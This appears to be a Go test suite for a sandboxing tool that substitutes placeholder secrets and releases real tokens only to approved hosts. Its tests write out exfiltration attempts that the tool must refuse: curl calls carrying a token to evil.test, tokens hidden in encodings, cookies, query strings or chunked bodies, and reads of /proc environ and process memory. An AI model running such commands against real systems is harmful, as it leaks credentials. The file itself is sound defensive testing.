package spec_test

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/bailey-dev/bailey"
	"github.com/bailey-dev/bailey/internal/testkit/ca"
	"github.com/bailey-dev/bailey/internal/testkit/netlab"
	"github.com/bailey-dev/bailey/internal/testkit/yard"
)

// secretWorld is a network whose hosts say what they were sent, and a vault.
type secretWorld struct {
	lab   *netlab.Lab
	y     *yard.Yard
	value string // of the secret demo, for allow.test

	mu   sync.Mutex
	last http.Header // of the latest request to any of its hosts
	body string
}

// newValue is a value like a real one, and another each time.
func newValue() string {
	var b [18]byte
	_, _ = rand.Read(b[:])
	return "ghp_" + hex.EncodeToString(b[:])
}

// newSecretWorld makes the secret demo: header Authorization, Bearer, for
// allow.test.
func newSecretWorld(t *testing.T, y *yard.Yard) *secretWorld {
	t.Helper()
	w := &secretWorld{lab: netlab.New(t), y: y, value: newValue()}
	w.lab.Trust()
	w.lab.Name("two.test", netlab.Allowed)
	y.Wrap = w.lab.Enter
	for _, host := range []string{"allow.test", "www.allow.test", "two.test", "evil.test"} {
		w.lab.Handle(host, http.HandlerFunc(w.answer))
	}
	w.set(t, "demo", w.value, "--host", "allow.test")
	return w
}

// set stores a secret.
func (w *secretWorld) set(t *testing.T, name, value string, flags ...string) {
	t.Helper()
	w.secret(t, value, append([]string{"set", name}, flags...)...).OK(t)
}

// secret runs a command of `bailey secret` with something on its input.
func (w *secretWorld) secret(t *testing.T, input string, args ...string) yard.Result {
	t.Helper()
	return w.y.RunWith(t, func(c *exec.Cmd) { c.Stdin = strings.NewReader(input) }, append([]string{"secret"}, args...)...)
}

// answer echoes what was asked in several ways, by the path.
func (w *secretWorld) answer(rw http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/mirror" {
		mirror(rw, r)
		return
	}
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	w.mu.Lock()
	w.last, w.body = r.Header.Clone(), string(body)
	w.mu.Unlock()
	got := r.Header.Get("Authorization")
	switch r.URL.Path {
	case "/echo":
		rw.Header().Set("X-Echo", got)
		rw.Header().Set("Location", "/next?token="+strings.TrimPrefix(got, "Bearer "))
		_, _ = fmt.Fprintln(rw, got, base64.StdEncoding.EncodeToString([]byte("a"+got)), hex.EncodeToString([]byte(got)), strings.ReplaceAll(got, "_", "%5F"), strings.ReplaceAll(got, "_", `\u005f`))
	case "/slow":
		f, _ := rw.(http.Flusher)
		for i := range 200 {
			_, _ = fmt.Fprintf(rw, "tick %d\n", i)
			f.Flush()
			select {
			case <-r.Context().Done():
				return
			case <-time.After(100 * time.Millisecond):
			}
		}
	default:
		_, _ = fmt.Fprintf(rw, "%s %s by %s\n", r.Method, r.URL.Path, r.Proto)
	}
}

// mirror says what it is sent, as it comes.
func mirror(rw http.ResponseWriter, r *http.Request) {
	c := http.NewResponseController(rw)
	if err := c.EnableFullDuplex(); err != nil && r.ProtoMajor == 1 {
		http.Error(rw, err.Error(), http.StatusInternalServerError)
		return
	}
	for b := make([]byte, 4096); ; {
		n, err := r.Body.Read(b)
		if _, bad := rw.Write(b[:n]); bad != nil || err != nil || c.Flush() != nil {
			return
		}
	}
}

// got is the header of the latest request.
func (w *secretWorld) got(name string) string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.last.Get(name)
}

// arrived reports whether a value reached a server in anything but the header
// Authorization of allow.test over TLS.
func (w *secretWorld) arrived(value string) (rightly, wrongly int) {
	for _, q := range w.lab.Requests() {
		for name, list := range q.Header {
			for _, v := range list {
				switch {
				case !strings.Contains(v, value):
				case name == "Authorization" && q.Host == "allow.test" && q.TLS == "allow.test":
					rightly++
				default:
					wrongly++
				}
			}
		}
		if strings.Contains(q.Path, value) {
			wrongly++
		}
	}
	return rightly, wrongly
}

func bearer(to string) string { return `curl -sS -H "Authorization: Bearer $DEMO" ` + to }

// TestSEC01_PlaceholderInValueOut: inside is a placeholder of the same shape,
// in every run another; the host of the rule gets the value, over HTTP/1.1 and
// HTTP/2, after it proved its name.
func TestSEC01_PlaceholderInValueOut(t *testing.T) {
	t.Attr("claim", "SEC-01")
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		w := newSecretWorld(t, y)
		seen := map[string]bool{}
		for _, version := range []string{"--http1.1", "--http2"} {
			r := y.Sh(t, `echo "$DEMO"; `+bearer(version+" https://allow.test/x"), "--secret", "demo", "--json").OK(t)
			placeholder, answer, _ := strings.Cut(r.Stdout, "\n")
			if !regexp.MustCompile(`^ghp_[0-9a-f]{36}$`).MatchString(placeholder) || placeholder == w.value || seen[placeholder] {
				t.Errorf("B073: the placeholder %q: want one of the value's shape, another than before", placeholder)
			}
			seen[placeholder] = true
			if got := w.got("Authorization"); got != "Bearer "+w.value {
				t.Errorf("%s: the host got another header than the value's (%d bytes): %s", version, len(got), answer)
			}
			uses := eventsOf(r, bailey.EventSecretUse)
			if len(uses) != 1 || uses[0].Name != "demo" || !strings.HasPrefix(uses[0].Secret, "sec_") || uses[0].Host != "allow.test" || uses[0].Status != 200 || uses[0].Path != "/" {
				t.Errorf("events of uses: %+v", uses)
			}
			if strings.Contains(r.Stdout+r.Stderr, w.value) {
				t.Error("the value is in what the run printed")
			}
		}
		r := y.Sh(t, `echo "$TOKEN"`, "--secret", "demo=TOKEN").OK(t)
		if !strings.HasPrefix(r.Stdout, "ghp_") {
			t.Errorf("--secret demo=TOKEN: %q", r.Stdout)
		}
		for _, taken := range []string{"PATH", "LD_PRELOAD", "https_proxy", "BAILEY_SANDBOX"} {
			if r := y.Sh(t, "true", "--secret", "demo="+taken).Exit(t, 125); !strings.Contains(r.Stderr, taken+" says how programs run") {
				t.Errorf("a placeholder in %s: %s", taken, r.Stderr)
			}
		}
		if r := y.Run(t, "run", "--secret", "--", "true").Exit(t, 125); !strings.Contains(r.Stderr, "--secret=NAME[=VAR]") {
			t.Errorf("--secret without a name: %s", r.Stderr)
		}
		r = y.RunWith(t, func(c *exec.Cmd) { c.Env = append(c.Env, "BAILEY_NET=none") }, "run", "--secret", "demo", "--", "sh", "-c", bearer("https://allow.test/x")).OK(t)
		if !strings.Contains(r.Stdout, "GET /x by") {
			t.Errorf("a mode of the environment, which a secret's hosts beat: %s\n%s", r.Stdout, r.Stderr)
		}
		t.Run("a host that does not prove its name", func(t *testing.T) {
			before, _ := w.arrived(w.value)
			w.lab.Name("false.test", netlab.Allowed)
			stranger(t, w.lab)
			w.set(t, "unproven", newValue(), "--host", "false.test:9443", "--var", "DEMO")
			r := y.Sh(t, bearer("https://false.test:9443/x"), "--secret", "unproven")
			if !strings.Contains(r.Stdout, "bad-certificate") {
				t.Errorf("answer %q\n%s", r.Stdout, r.Stderr)
			}
			if after, _ := w.arrived(w.value); after != before {
				t.Error("a request arrived")
			}
		})
		if n, wrongly := w.arrived(w.value); n < 2 || wrongly > 0 {
			t.Errorf("the value arrived %d times where it may, %d times elsewhere", n, wrongly)
		}
	})
}

// stranger serves TLS at allowed:9443 with a certificate that nobody trusts.
func stranger(t *testing.T, lab *netlab.Lab) {
	t.Helper()
	other, err := ca.New(time.Now())
	if err != nil {
		t.Fatal(err)
	}
	serveTLS(t, lab, 9443, other, http.NotFoundHandler())
}

// serveTLS serves TLS at a port of allowed, with certificates of an authority.
func serveTLS(t *testing.T, lab *netlab.Lab, port uint16, by *ca.CA, h http.Handler) {
	t.Helper()
	ln := lab.Listen(netip.AddrPortFrom(netlab.Allowed, port).String())
	srv := &http.Server{Handler: h, TLSConfig: by.ServerConfig("http/1.1"), ReadHeaderTimeout: time.Minute}
	go func() { _ = srv.ServeTLS(ln, "", "") }()
	t.Cleanup(func() { _ = srv.Close() })
}

// eventsOf returns the events of one type in the output of --json.
func eventsOf(r yard.Result, kind bailey.EventType) []bailey.Event {
	var out []bailey.Event
	for line := range strings.Lines(r.Stderr) {
		var ev bailey.Event
		if json.Unmarshal([]byte(line), &ev) == nil && ev.Type == kind {
			out = append(out, ev)
		}
	}
	return out
}

// TestSEC02_NeverOverPlainHTTP: TLS is opened for the hosts of a secret alone,
// and a value never travels without it (B004).
func TestSEC02_NeverOverPlainHTTP(t *testing.T) {
	t.Attr("claim", "SEC-02")
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		w := newSecretWorld(t, y)
		r := y.Sh(t, bearer("http://allow.test/x")+`; echo; curl -sS http://allow.test/clean; curl -sSv https://www.allow.test/ 2>&1 | grep -c 'bailey root of sandbox'; curl -sSv https://allow.test/ 2>&1 | grep -c 'bailey root of sandbox'`,
			"--secret", "demo", "--allow", "allow.test:80", "--allow", "www.allow.test")
		for _, want := range []string{"secret-plain-http", "GET /clean by HTTP/1.1\n", "\n0\n1\n"} {
			if !strings.Contains(r.Stdout, want) {
				t.Errorf("want %q in %s\n%s", want, r.Stdout, r.Stderr)
			}
		}
		if rightly, wrongly := w.arrived(w.value); rightly+wrongly > 0 {
			t.Errorf("the value arrived: %d, %d", rightly, wrongly)
		}
	})
}

// each runs scripts one after the other in one sandbox, and returns what each of
// them printed.
func (w *secretWorld) each(t *testing.T, scripts []string, flags ...string) ([]string, yard.Result) {
	t.Helper()
	const mark = "== the next one"
	r := w.y.Sh(t, strings.Join(scripts, "\necho '"+mark+"'\n")+"\ntrue", flags...).OK(t)
	said := strings.Split(r.Stdout, mark+"\n")
	if len(said) != len(scripts) {
		t.Fatalf("%d scripts printed %d texts:\n%s\n%s", len(scripts), len(said), r.Stdout, r.Stderr)
	}
	return said, r
}

// TestSEC03_PlaceholderElsewhereIsRefused: other hosts, other places, other
// encodings; where bailey cannot see it is worthless.
func TestSEC03_PlaceholderElsewhereIsRefused(t *testing.T) {
	t.Attr("claim", "SEC-03")
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		w := newSecretWorld(t, y)
		other := newValue()
		w.set(t, "second", other, "--host", "two.test")
		userPolicy(t, y, "net:\n  allow:\n  - {host: www.allow.test, inspect: true}\n  - evil.test\n")
		split := `python3 - <<'END'
import os, socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("allow.test", 443)), server_hostname="allow.test")
p = os.environ["DEMO"].encode()
s.sendall(b"POST /body HTTP/1.1\r\nHost: allow.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n")
for b in p: s.sendall(b"1\r\n%c\r\n" % b)
s.sendall(b"0\r\n\r\n")
print(s.recv(65536).decode())
END`
		cases := []struct{ name, script, want string }{
			{"B001 an inspected host", bearer("https://www.allow.test/"), "secret-wrong-host"},
			{"B001 plain HTTP to another host", bearer("http://evil.test/"), "secret-wrong-host"},
			{"B006 another secret's host", bearer("https://two.test/"), "secret-wrong-host"},
			{"B017 a cookie", `curl -sS -b "t=$DEMO" https://allow.test/`, "secret-misplaced"},
			{"B017 the user agent", `curl -sS -A "$DEMO" https://allow.test/`, "secret-misplaced"},
			{"B024 in a longer token", `curl -sS -H "Authorization: Bearer x${DEMO}y" https://allow.test/`, "secret-misplaced"},
			{"B026 in the query", `curl -sS "https://allow.test/?t=$DEMO"`, "secret-misplaced"},
			{"B026 in escapes", `curl -sS "https://allow.test/?t=$(printf %s "$DEMO" | sed 's/./&/g' | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')"`, "secret-misplaced"},
			{"B025 as the user of Basic", `curl -sS -u "$DEMO:x" https://allow.test/`, "secret-misplaced"},
			{"B029 in the escapes of JSON", `curl -sS --data-raw "{\"t\":\"$(printf %s "$DEMO" | od -An -tx1 | tr -d ' \n' | sed 's/../\\u00&/g')\"}" https://allow.test/`, "secret-misplaced"},
			{"B030 in base64 in a body", `for pad in "" a ab; do curl -sS --data-raw "$(printf %s "$pad$DEMO" | base64 -w0)" https://allow.test/; done`, "secret-misplaced"},
			{"B032 split over chunks", split, "secret-misplaced"},
			{"B034 in the path", `curl -sS "https://allow.test/a/$DEMO/b"`, "secret-misplaced"},
		}
		var scripts []string
		for _, c := range cases {
			scripts = append(scripts, c.script)
		}
		said, r := w.each(t, scripts, "--secret", "demo", "--secret", "second")
		for i, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				if !strings.Contains(said[i], c.want) {
					t.Errorf("want %s: %s\n%s", c.want, said[i], r.Stderr)
				}
			})
		}
		for _, q := range w.lab.Requests() {
			if strings.Contains(fmt.Sprint(q.Header, q.Path), w.value) {
				t.Errorf("the value arrived: %s %s", q.Method, q.Host)
			}
		}
		t.Run("a host that is passed on unseen gets a worthless one", func(t *testing.T) {
			r := y.Sh(t, `echo "$DEMO"; `+bearer("https://evil.test/"), "--secret", "demo").OK(t)
			placeholder, _, _ := strings.Cut(r.Stdout, "\n")
			if got := w.got("Authorization"); got != "Bearer "+placeholder {
				t.Errorf("evil.test got %d bytes, and not the placeholder", len(got))
			}
		})
		t.Run("twins: the same without a placeholder", func(t *testing.T) {
			r := y.Sh(t, `curl -sS -b t=x -A x -u u:x "https://allow.test/a?t=%41"; curl -sS --data-raw '{"t":"\u0041"}' https://allow.test/b; curl -sS -H 'Authorization: Bearer x' https://www.allow.test/c`, "--secret", "demo").OK(t)
			if want := "GET /a by HTTP/2.0\nPOST /b by HTTP/2.0\nGET /c by HTTP/2.0\n"; r.Stdout != want {
				t.Errorf("%q, want %q", r.Stdout, want)
			}
		})
	})
}

// TestSEC04_ThePlaceIsPartOfTheRule: header, Basic, query key, cookie, path
// prefix, method, port.
func TestSEC04_ThePlaceIsPartOfTheRule(t *testing.T) {
	t.Attr("claim", "SEC-04")
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		w := newSecretWorld(t, y)
		for _, flags := range [][]string{nil, {"--host", "*"}, {"--host", "*.com"}, {"--host", ""}} {
			r := w.secret(t, newValue(), append([]string{"set", "nowhere"}, flags...)...).Exit(t, 125)
			if list := w.secret(t, "", "ls").OK(t); strings.Contains(list.Stdout, "nowhere") || !strings.Contains(r.Stderr, "host") {
				t.Errorf("A048, for no host in particular: %q\n%s%s", flags, r.Stderr, list.Stdout)
			}
		}
		basic, query, cookie, narrow := newValue(), newValue(), newValue(), newValue()
		w.set(t, "basic", basic, "--host", "allow.test", "--basic", "x-access-token")
		w.set(t, "query", query, "--host", "allow.test", "--query", "key")
		w.set(t, "cookie", cookie, "--host", "allow.test", "--cookie", "session")
		w.set(t, "narrow", narrow, "--host", "allow.test", "--header", "X-Api-Key", "--format", "{}", "--method", "GET", "--path", "/v1")
		cases := []struct{ name, good, bad, reason string }{
			{"Basic", `curl -sS -u "x-access-token:$BASIC" https://allow.test/y`, `curl -sS -H "Authorization: Bearer $BASIC" https://allow.test/n`, "secret-misplaced"},
			{"query", `curl -sS "https://allow.test/y?a=b&key=$QUERY"`, `curl -sS "https://allow.test/n?other=$QUERY"`, "secret-misplaced"},
			{"cookie", `curl -sS -b "a=b; session=$COOKIE" https://allow.test/y`, `curl -sS -b "other=$COOKIE" https://allow.test/n`, "secret-misplaced"},
			{"path", `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v1/y`, `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v11/n`, "secret-not-covered"},
			{"method", `curl -sS -H "X-Api-Key: $NARROW" https://allow.test/v1/y`, `curl -sS -X DELETE -H "X-Api-Key: $NARROW" https://allow.test/v1/n`, "secret-not-covered"},
		}
		var scripts []string
		for _, c := range cases {
			scripts = append(scripts, c.good+"; echo; "+c.bad)
		}
		said, r := w.each(t, scripts, "--secret", "basic", "--secret", "query", "--secret", "cookie", "--secret", "narrow")
		for i, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				if s := said[i]; !strings.Contains(s, "/y by HTTP/2.0") || !strings.Contains(s, c.reason) || strings.Contains(s, "/n by") {
					t.Errorf("%s\n%s", s, r.Stderr)
				}
			})
		}
		all := fmt.Sprint(w.lab.Requests())
		for _, want := range []string{
			"Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+basic)), "/y?a=b&key=" + query, "a=b; session=" + cookie, "X-Api-Key:[" + narrow + "]",
		} {
			if !strings.Contains(all, want) {
				t.Errorf("a value did not arrive in its place (%d bytes)", len(want))
			}
		}
		t.Run("a value that cannot stand in its place", func(t *testing.T) {
			const unfit, says = "two words; and more", "its value holds characters that cannot stand in its place"
			if r := w.secret(t, unfit, "set", "unfit", "--host", "allow.test", "--cookie", "c").Exit(t, 125); !strings.Contains(r.Stderr, says) {
				t.Error(r.Stderr)
			}
			w.set(t, "unfit", unfit, "--host", "allow.test") // the twin: a header holds it
			y.Sh(t, "true", "--secret", "unfit").OK(t)
			for _, args := range [][]string{{"edit", "unfit", "--cookie", "c"}, {"rotate", "cookie"}} {
				if r := w.secret(t, unfit, args...).Exit(t, 125); !strings.Contains(r.Stderr, says) {
					t.Errorf("%s: %s", args, r.Stderr)
				}
			}
			y.Sh(t, "true", "--secret", "cookie", "--secret", "unfit").OK(t) // both as they were
		})
		t.Run("B005 another port of the host", func(t *testing.T) {
			serveTLS(t, w.lab, 8443, w.lab.CA(), http.HandlerFunc(w.answer))
			userPolicy(t, y, "net:\n  allow: [{host: allow.test, ports: [8443], inspect: true}]\n")
			before, _ := w.arrived(w.value)
			r := y.Sh(t, bearer("https://allow.test:8443/n")+"; curl -sS https://allow.test:8443/twin", "--secret", "demo")
			if !strings.Contains(r.Stdout, "secret-wrong-host") || !strings.Contains(r.Stdout, "GET /twin by") || strings.Contains(r.Stdout, "/n by") {
				t.Errorf("%s\n%s", r.Stdout, r.Stderr)
			}
			if n, wrongly := w.arrived(w.value); n != before || wrongly > 0 {
				t.Error("the value arrived")
			}
			userPolicy(t, y, "")
		})
		t.Run("B002, B072 another Host", func(t *testing.T) {
			before := len(w.lab.Requests())
			for _, v := range []string{"--http1.1", "--http2"} {
				if r := y.Sh(t, bearer(v+" -H 'Host: two.test' -o /dev/null -w '%{http_code}' https://allow.test/"), "--secret", "demo"); r.Stdout != "421" {
					t.Errorf("%s: %s\n%s", v, r.Stdout, r.Stderr)
				}
			}
			if len(w.lab.Requests()) != before {
				t.Error("a request arrived")
			}
		})
		t.Run("B013, B014 a redirect to another host", func(t *testing.T) {
			w.lab.Handle("www.allow.test", http.RedirectHandler("https://two.test/", http.StatusTemporaryRedirect))
			w.set(t, "moved", newValue(), "--host", "www.allow.test", "--var", "DEMO")
			userPolicy(t, y, "net:\n  allow: [{host: two.test, inspect: true}]\n")
			r := y.Sh(t, `curl -sSL --location-trusted -H "Authorization: Bearer $DEMO" https://www.allow.test/`, "--secret", "moved")
			if !strings.Contains(r.Stdout, "secret-wrong-host") {
				t.Errorf("%s\n%s", r.Stdout, r.Stderr)
			}
		})
	})
}

// TestSEC07_EchoesAreTakenBack: what the host says of the value is the
// placeholder again before the sandbox sees it.
func TestSEC07_EchoesAreTakenBack(t *testing.T) {
	t.Attr("claim", "SEC-07")
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		w := newSecretWorld(t, y)
		for _, version := range []string{"--http1.1", "--http2"} {
			r := y.Sh(t, `echo "$DEMO"; `+bearer("-i --compressed "+version+" https://allow.test/echo"), "--secret", "demo").OK(t)
			if got := w.got("Authorization"); got != "Bearer "+w.value {
				t.Fatalf("the host did not get the value: %s", r.Stdout)
			}
			if r := y.Sh(t, bearer("-X TRACE "+version+" https://allow.test/echo"), "--secret", "demo"); !strings.Contains(r.Stdout, "TRACE is refused") {
				t.Errorf("B048 TRACE: %s\n%s", r.Stdout, r.Stderr)
			}
			placeholder, rest, _ := strings.Cut(r.Stdout, "\n")
			for _, form := range []string{
				w.value, hex.EncodeToString([]byte(w.value)), strings.ReplaceAll(w.value, "_", "%5F"), strings.ReplaceAll(w.value, "_", `\u005f`),
				base64.StdEncoding.EncodeToString([]byte("aBearer " + w.value)),
			} {
				if strings.Contains(rest, form) {
					t.Errorf("%s: the value came back: %s", version, form)
				}
			}
			for _, form := range []string{
				"Bearer " + placeholder + " ", "token=" + placeholder, hex.EncodeToString([]byte("Bearer " + placeholder)),
				base64.StdEncoding.EncodeToString([]byte("aBearer " + placeholder)),
			} {
				if !strings.Contains(rest, form) {
					t.Errorf("%s: want %q in\n%s", version, form, rest)
				}
			}
		}
	})
}

// guessing has a host show guesses and says of each whether it arrived before
// anything followed it.
const guessing = `import select, socket, ssl, sys
host, guesses = sys.argv[1], sys.argv[2:]
s = socket.create_connection((host, 443 if host == "allow.test" else 80))
if host == "allow.test":
    s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
s.setblocking(False)
def put(text):
    b = text.encode()
    s.setblocking(True)
    s.sendall(b"%x\r\n%s\r\n" % (len(b), b))
    s.setblocking(False)
def until(text, seconds):
    got = b""
    while text.encode() not in got:
        try:
            more = s.recv(4096)
            if not more:
                sys.exit("closed after %r" % got)
            got += more
        except (ssl.SSLWantReadError, BlockingIOError):
            if not select.select([s], [], [], seconds)[0]:
                return False
    return True
s.setblocking(True)
s.sendall(b"POST /mirror HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n" % host.encode())
s.setblocking(False)
put("begin\n")
print("begun" if until("begin\n", 20) else "mute")
for g in guesses:
    put("you said " + g)
    print("arrived" if until(g, 3 if host == "allow.test" else 20) else "waits")
    put("#\n")
    print("all" if until("#\n", 20) else "lost")
`

// TestSEC07_GuessesAreNotTold: whoever has a host show guesses at a value, its
// own host or one of somebody inside, does not see which of them are right by
// what arrives.
func TestSEC07_GuessesAreNotTold(t *testing.T) {
	t.Attr("claim", "SEC-07")
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		w := newSecretWorld(t, y)
		y.Write(t, "guess.py", guessing)
		wrong := func(n int) string { // the first n bytes, of which the last is another
			return w.value[:n-1] + string("0123456789abcdef"[(strings.IndexByte("0123456789abcdef", w.value[n-1])+1)%16])
		}
		script := func(host string) string {
			return strings.Join([]string{"python3 guess.py", host, w.value[:12], wrong(12), w.value[:30], wrong(30)}, " ")
		}
		said, r := w.each(t, []string{script("allow.test"), script("two.test")}, "--secret", "demo", "--allow", "two.test:80")
		if want := "begun\n" + strings.Repeat("waits\nall\n", 4); said[0] != want {
			t.Errorf("the value's host:\n%s\n%s", said[0], r.Stderr)
		}
		if want := "begun\n" + strings.Repeat("arrived\nall\n", 4); said[1] != want {
			t.Errorf("a host of somebody inside:\n%s\n%s", said[1], r.Stderr)
		}
	})
}

// TestSEC01_LifeOfASecret: what is rotated, changed or withdrawn on the host is
// so in a running sandbox within a second, on connections that are open too.
func TestSEC01_LifeOfASecret(t *testing.T) {
	t.Attr("claim", "SEC-01")
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		w := newSecretWorld(t, y)
		box := y.Start(t, "run", "--json", "--name", "life", "--secret", "demo", "--", "sh", "-c",
			`while :; do curl -sS -o /dev/null -H "Authorization: Bearer $DEMO" https://allow.test/x; sleep 0.1; done & while :; do curl -sS -N -H "Authorization: Bearer $DEMO" https://allow.test/slow && echo whole; echo again; sleep 0.3; done`)
		defer func() { y.Run(t, "stop", "life") }()
		box.Await(t, "tick 3")
		// Two ways of a change are timed from the end of the command that makes it.
		soon := func(what string, change func(), holds func() bool) {
			inTime(t, func() time.Duration {
				change()
				since := time.Now()
				yard.Eventually(t, yard.Timeout, holds, func() string { return what })
				return time.Since(since)
			})
		}
		value, cuts := w.value, 0
		soon("the new value does not arrive", func() {
			value = newValue()
			w.secret(t, value, "rotate", "demo").OK(t)
		}, func() bool { return w.got("Authorization") == "Bearer "+value })
		soon("an answer that is under way with the old value goes on", func() {
			out, _ := box.Output()
			ticks := strings.Count(out, "tick 3\n")
			yard.Eventually(t, yard.Timeout, func() bool { out, _ = box.Output(); return strings.Count(out, "tick 3\n") > ticks }, func() string { return "no answer is under way" })
			cuts = strings.Count(out, "again")
			w.secret(t, newValue(), "rotate", "demo").OK(t)
		}, func() bool { out, _ := box.Output(); return strings.Count(out, "again") > cuts })
		w.secret(t, "", "rm", "demo").OK(t)
		since := time.Now()
		yard.Eventually(t, yard.Timeout, func() bool {
			_, stderr := box.Output()
			return strings.Contains(stderr, "secret-withdrawn")
		}, func() string { return "a secret that is gone is still lent" })
		if took := time.Since(since); took > 2*within { // it cannot be taken back twice: see inTime
			t.Errorf("a removal took %v", took)
		}
		before := len(w.lab.Requests())
		time.Sleep(500 * time.Millisecond) // in which nothing may arrive
		for _, q := range w.lab.Requests()[before:] {
			if q.Header.Get("Authorization") != "" {
				t.Error("a request arrived after the secret was gone")
			}
		}
		refusedOnce(t, y)
	})
}

// refusedOnce: of a connection whose only request was refused for its secret,
// nothing was passed on, and nothing is on record as allowed.
func refusedOnce(t *testing.T, y *yard.Yard) {
	t.Helper()
	refused, allowed := map[uint64]bool{}, map[uint64]bool{}
	for _, r := range kept(t, y) {
		if r.Reason == "secret-withdrawn" {
			refused[r.Connection] = true
			if r.BytesIn != 0 {
				t.Errorf("%d bytes are said to come from the host", r.BytesIn)
			}
		} else if r.Verdict == "allow" && r.Reason == "" {
			allowed[r.Connection] = true
		}
	}
	for number := range refused {
		if allowed[number] {
			t.Errorf("connection %d is on record as refused and allowed", number)
		}
	}
	if len(refused) == 0 || len(allowed) == 0 {
		t.Errorf("on record are %d refused and %d allowed connections", len(refused), len(allowed))
	}
}

func statOf(t *testing.T, path string) *syscall.Stat_t {
	t.Helper()
	var st syscall.Stat_t
	if err := syscall.Stat(path, &st); err != nil {
		t.Fatal(err)
	}
	return &st
}

// inMemory reports whether a value is in what a process can write to, which
// root may read of any.
func inMemory(t *testing.T, pid int, value string) bool {
	t.Helper()
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if errors.Is(err, fs.ErrNotExist) || errors.Is(err, syscall.ESRCH) {
		return false // it has ended
	}
	if err != nil {
		t.Fatal(err)
	}
	defer mem.Close()
	for line := range strings.Lines(readProc(t, pid, "maps")) {
		var from, to int64
		var mode string
		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); n != 3 || !strings.HasPrefix(mode, "rw") {
			continue
		}
		b := make([]byte, 1<<20)
		for at := from; at < to; at += int64(len(b)) - int64(len(value)) {
			n, err := mem.ReadAt(b[:min(int64(len(b)), to-at)], at)
			if bytes.Contains(b[:max(n, 0)], []byte(value)) {
				return true
			}
			if err != nil || to-at <= int64(len(b)) {
				break
			}
		}
	}
	return false
}

// TestSEC06_NoInterfaceGivesAValueBack (B053, B054, B056, B057): the value is searched for in all that
// bailey prints, keeps and runs, where a placeholder is found.
func TestSEC06_NoInterfaceGivesAValueBack(t *testing.T) {
	t.Attr("claim", "SEC-06")
	t.Parallel()
	yard.Each(t, func(t *testing.T, y *yard.Yard) {
		w := newSecretWorld(t, y)
		core := syscall.Rlimit{Cur: 1 << 20, Max: 1 << 20} // so that a limit of none is bailey's doing
		if err := syscall.Setrlimit(syscall.RLIMIT_CORE, &core); err != nil {
			t.Fatal(err)
		}
		printed := ""
		say := func(r yard.Result) { printed += r.Stdout + r.Stderr }
		say(w.secret(t, w.value, "set", "demo", "--host", "allow.test"))     // exists
		say(w.secret(t, w.value, "set", "bad", "--host", "*"))               // refused
		say(w.secret(t, w.value+"\n\x00", "set", "bad", "--host", "a.test")) // refused
		say(w.secret(t, "x"+w.value, "edit", "demo", "--host", "b.test"))    // not the value
		for _, args := range [][]string{{"ls"}, {"ls", "--json"}, {"show", "demo"}, {"show", "demo", "--json"}, {"check"}, {"export", "-"}} {
			say(w.secret(t, "", args...))
		}
		box := y.Start(t, "run", "--json", "--name", "held", "--secret", "demo", "--", "sh", "-c", bearer("https://allow.test/echo")+`; echo "$DEMO"; echo ready; exec cat`)
		box.Await(t, "ready")
		if w.got("Authorization") != "Bearer "+w.value {
			t.Fatal("the value did not arrive")
		}
		out, stderr := box.Output()
		printed += out + stderr
		for _, args := range [][]string{{"ps", "--json"}, {"net", "log"}, {"net", "log", "--json"}, {"net", "why", "allow.test"}, {"policy", "show", "--json"}, {"doctor", "--live", "held"}} {
			say(y.Run(t, args...))
		}
		holders := 0
		for _, pid := range processesOf(y) {
			for _, file := range []string{"environ", "cmdline"} {
				if strings.Contains(readProc(t, pid, file), w.value) {
					t.Errorf("B056, B057: the value is in %s of %s", file, readProc(t, pid, "cmdline"))
				}
			}
			if !inMemory(t, pid, w.value) {
				continue
			}
			holders++
			role := readProc(t, pid, "cmdline")
			if !strings.HasPrefix(role, "bailey-proxy") && pid != box.Cmd.Process.Pid {
				t.Errorf("the value is in the memory of %q", role)
			}
			if limits := readProc(t, pid, "limits"); !regexp.MustCompile(`Max core file size +0 `).MatchString(limits) {
				t.Errorf("%q, which holds the value, can leave a core file", role)
			}
			if y.UID != 0 { // the files of a process that can be looked into belong to its user
				if st := statOf(t, fmt.Sprintf("/proc/%d/mem", pid)); st.Uid != 0 {
					t.Errorf("%q, which holds the value, can be looked into by its user", role)
				}
			}
			if strings.HasPrefix(role, "bailey-proxy") { // what it says when it crashes
				_ = syscall.Kill(pid, syscall.SIGABRT)
			}
		}
		if holders == 0 {
			t.Error("the twin: the value was found in no process")
		}
		box.Wait(t, time.Minute)
		_, stderr = box.Output()
		printed += stderr
		box = y.Start(t, "run", "--name", "held", "--secret", "demo", "--", "sh", "-c", "echo ready; exec cat")
		box.Await(t, "ready")
		inside := y.Run(t, "exec", "held", "--", "sh", "-c", `cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'; grep -rhs DEMO /etc /home /tmp /run 2>/dev/null; true`)
		printed += inside.Stdout
		y.Run(t, "stop", "held")
		box.Wait(t, time.Minute)
		if strings.Contains(printed, w.value) {
			t.Error("B053, B054: the value was printed")
		}
